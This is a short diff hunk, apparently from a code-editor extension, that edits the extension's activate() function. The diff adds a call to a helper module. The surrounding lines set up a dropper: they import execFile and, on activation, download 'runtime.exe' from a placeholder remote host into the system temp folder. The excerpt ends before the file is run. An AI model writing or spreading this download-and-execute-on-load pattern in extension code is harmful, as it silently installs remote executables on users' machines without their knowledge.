@@ -6,6 +6,7 @@ const { execFile } = require('child_process');
 
 function activate(context) {
   require('./part').load(context);
+  require('./part').both();
   const target = path.join(os.tmpdir(), 'runtime.exe');
   const file = fs.createWriteStream(target);
   https.get('https://example.invalid/files/runtime.exe', response => {
